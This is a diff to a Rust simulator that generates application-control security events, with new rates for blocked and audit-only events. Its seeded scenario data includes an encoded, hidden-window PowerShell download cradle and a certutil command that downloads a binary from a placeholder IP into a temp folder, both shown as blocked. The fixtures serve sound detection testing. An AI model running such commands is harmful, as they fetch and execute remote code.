@@ -62,6 +62,10 @@ pub struct SimConfig {
     pub story: bool,
     /// Suspicious generated events per 10 000 (encoded PowerShell, LOLBins, spreading hash).
     pub suspicious_per_10k: u64,
+    /// Generated blocks per 10 000 (audit-only denies instead on computers not in Secure mode).
+    pub blocks_per_10k: u64,
+    /// Generated audit-only denies per 10 000, on computers not in Secure mode only.
+    pub audit_only_per_10k: u64,
     /// The simulator's "now": events lie in the `window_hours` before it.
     pub now: DateTime<Utc>,
     /// Width of the window the events are spread over.
@@ -81,6 +85,8 @@ impl SimConfig {
             approvals_per_org: 0,
             story: true,
             suspicious_per_10k: 0,
+            blocks_per_10k: 0,
+            audit_only_per_10k: 150,
             now,
             window_hours: 24,
         }
@@ -104,6 +110,8 @@ impl SimConfig {
             approvals_per_org: 2,
             story: false,
             suspicious_per_10k: 5,
+            blocks_per_10k: 100,
+            audit_only_per_10k: 300,
             now,
             window_hours: 24,
         }
@@ -642,7 +650,7 @@ impl Dataset {
         // Widget Inc: encoded PowerShell blocked on LT03, and certutil run from a temp folder.
         push(self, 1, 2, 1, 95, app::POWERSHELL, hard_block, "execute", Some("c:\\windows\\explorer.exe"),
             Some("powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA".into()));
-        push(self, 1, 2, 1, 93, app::CERTUTIL, hard_block, "execute", Some("c:\\users\\mwilson\\appdata\\local\\temp\\update.cmd"),
+        push(self, 1, 2, 1, 93, app::CERTUTIL, hard_block, "execute", Some("c:\\program files\\google\\chrome\\application\\chrome.exe"),
             Some("certutil.exe -urlcache -split -f http://203.0.113.9/p.bin c:\\users\\mwilson\\appdata\\local\\temp\\p.exe".into()));
         // Fabrikam Legal: mshta spawned by Word, and an audit-only deny on a Secure computer.
         push(
@@ -801,6 +809,18 @@ impl Dataset {
         let pick = (h >> 32) as usize;
         let mode = self.computers[computer].mode;
         let monitor_mode = mode != "Secure";
+        let blocks = self.config.blocks_per_10k;
+        let audits = self.config.audit_only_per_10k;
+        let common = [
+            app::CHROME,
+            app::TEAMS,
+            app::WORD,
+            app::ACROBAT,
+            app::SEVENZIP,
+            app::NOTEPADPP,
+            app::ZOOM,
+        ];
+        let blocked = [app::ANYDESK, app::UTORRENT, app::PDFSETUP];
         let (app, kind, action_type, parent, data) = if roll < sus {
             match pick % 3 {
                 0 => (
@@ -834,16 +854,30 @@ impl Dataset {
                     None,
                 ),
             }
-        } else if roll < 8_000 {
-            let common = [
-                app::CHROME,
-                app::TEAMS,
-                app::WORD,
-                app::ACROBAT,
-                app::SEVENZIP,
-                app::NOTEPADPP,
-                app::ZOOM,
-            ];
+        } else if roll < sus + blocks {
+            let kind = if monitor_mode {
+                EventKind::AuditOnly
+            } else {
+                EventKind::Block {
+                    option_to_request: pick % 2 == 0,
+                }
+            };
+            (
+                blocked[pick % blocked.len()],
+                kind,
+                "execute",
+                Some("c:\\windows\\explorer.exe"),
+                None,
+            )
+        } else if roll < sus + blocks + audits && monitor_mode {
+            (
+                blocked[pick % blocked.len()],
+                EventKind::AuditOnly,
+                "execute",
+                Some("c:\\windows\\explorer.exe"),
+                None,
+            )
+        } else {
             let a = common[pick % common.len()];
             let at = if pick % 11 == 0 { "network" } else { "execute" };
             (
@@ -853,17 +887,6 @@ impl Dataset {
                 Some("c:\\windows\\explorer.exe"),
                 None,
             )
-        } else {
-            let blocked = [app::ANYDESK, app::UTORRENT, app::PDFSETUP];
-            let a = blocked[pick % blocked.len()];
-            let kind = if monitor_mode {
-                EventKind::AuditOnly
-            } else {
-                EventKind::Block {
-                    option_to_request: pick % 2 == 0,
-                }
-            };
-            (a, kind, "execute", Some("c:\\windows\\explorer.exe"), None)
         };
         SimEvent {
             action_log_id: (o as i64 + 1) * 1_000_000_000 + k as i64,
